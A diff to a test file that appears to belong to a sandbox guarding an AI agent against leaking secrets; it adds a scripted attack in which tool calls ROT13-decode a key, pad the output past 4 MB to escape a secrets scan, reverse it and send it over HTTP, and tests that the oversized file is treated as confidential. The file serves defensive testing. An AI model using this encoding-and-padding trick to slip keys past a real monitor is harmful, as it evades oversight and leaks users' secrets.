@@ -3,6 +3,7 @@
 Real daemon, real tools, bubblewrap; the control is the same daemon with just that look missing.
 """
 
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -54,6 +55,37 @@ async def test_a_key_that_a_program_left_goes_nowhere_by_itself(tmp_path: Path) 
 
 async def test_without_that_look_it_arrives(tmp_path: Path) -> None:
     assert (await play_attack(CARRIES, tmp_path / "root", off=True)).holds(CARRIES.spelled)
+
+
+LARGE = replace(
+    CARRIES,
+    name="a program decodes a key into a file that is too large to be looked through",
+    plays=(
+        Play(
+            (
+                [
+                    call(
+                        "run_command", argv=["sh", "-c", "(tr A-Z N-ZA-M < notes.txt; yes | head -c 4194305) > out.txt"]
+                    )
+                ],
+                [call("run_command", argv=["sh", "-c", "head -n 1 out.txt | rev"])],
+                [http("PORT", told_by("run_command", f"({BACKWARDS})"))],
+            )
+        ),
+    ),
+)
+
+
+async def test_what_was_not_looked_through_counts_as_confidential(tmp_path: Path) -> None:
+    outcome = await play_attack(LARGE, tmp_path / "root")
+    assert not outcome.holds(LARGE.spelled)
+    assert outcome.cards[-1]["provenance"]["confidential"]
+    told = [item["fields"].get("result", "") for item in outcome.items if item["kind"] == "tool"]
+    assert "Too large to be looked through for secrets: out.txt; it counts as confidential." in told[0]
+
+
+async def test_without_that_look_the_large_one_arrives(tmp_path: Path) -> None:
+    assert (await play_attack(LARGE, tmp_path / "root", off=True)).holds(LARGE.spelled)
 
 
 def makes(script: str, before: str = "") -> Attack:
